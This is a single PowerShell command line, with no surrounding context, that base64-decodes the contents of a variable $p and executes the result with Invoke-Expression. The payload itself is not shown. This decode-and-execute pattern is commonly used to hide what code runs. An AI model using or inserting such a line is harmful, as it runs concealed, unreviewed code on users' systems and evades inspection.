iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p)))
